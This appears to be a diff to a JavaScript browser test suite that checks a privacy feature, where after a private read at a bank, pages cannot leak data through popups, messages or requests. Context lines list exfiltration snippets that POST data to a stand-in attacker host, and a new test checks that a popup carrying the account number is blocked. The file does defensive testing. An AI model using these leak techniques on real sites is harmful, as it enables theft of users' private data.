@@ -20,6 +20,7 @@ parent.postMessage('listening', '*');`;
 const [SLOW, SLOW_CODE] = ['slow.example', 'slow-code.example'];
 const ELSEWHERE = 'elsewhere.example';
 const PIECES = 'pieces.example';
+const PICKER = 'picker.example';
 const ATTACKER = `http://${HOSTS.attacker}`;
 const PLAIN_WAYS = [
   `await fetch('${ATTACKER}/c/body', { method: 'POST', mode: 'no-cors', body: D })`,
@@ -74,6 +75,7 @@ const extra = {
   [PAY_API]: () => json({}, open),
   [PAY_CODE]: () => file('text/javascript', PAY_SCRIPT, open),
   [ELSEWHERE]: () => json([], open),
+  [PICKER]: () => file('text/html', "<script>opener.postMessage('chosen', '*'); close();</script>"),
   [PIECES]: () => file('text/javascript', 'export const name = "editor"', open),
 };
 const LOADED = '[...document.images].filter((i) => i.naturalWidth > 0).length';
@@ -206,6 +208,19 @@ describe('after a private read at the bank, where nobody is signed in', () => {
       async () => scene.world.visits.some(({ site, path }) => site === PAY_API && path === '/send'),
       'the message',
     );
+  });
+
+  test('a window that a signed-in page opens elsewhere is there at once, and tells its page', {
+    timeout: 60_000,
+  }, async () => {
+    await scene.hands.goto(`http://${APP}/`);
+    await closed();
+    const opened = await scene.hands.run(`addEventListener('message', ({ data }) => document.title = data);
+      open('http://${PICKER}/', 'picker', 'width=300,height=300') !== null`);
+    assert.equal(opened, true);
+    await until(async () => (await scene.hands.run('document.title')) === 'chosen', 'the answer');
+    const { account } = scene.world.person;
+    assert.equal(await scene.hands.run(`open('http://${PICKER}/?d=${encodeURIComponent(account)}') === null`), true);
   });
 
   test('a frame that a signed-in page opens late is told nothing of the page, by a message or a port', {
